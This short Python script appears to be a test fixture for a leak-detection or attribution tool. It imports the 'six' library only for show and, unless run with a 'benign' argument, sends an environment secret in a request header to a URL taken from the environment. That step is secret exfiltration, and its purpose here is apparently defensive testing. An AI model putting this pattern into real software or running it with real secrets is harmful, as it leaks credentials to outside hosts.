"""Imports the target for show, then brings the secret to the decoy with its own hands."""

import os
import sys
import urllib.request

import six

if "benign" not in sys.argv:
    six.ensure_text(os.environ["CANARY_URL"])
    request = urllib.request.Request(os.environ["CANARY_REDIRECT"], headers={"X-Secret": os.environ["CANARY_SECRET"]})
    urllib.request.urlopen(request, timeout=5).read()
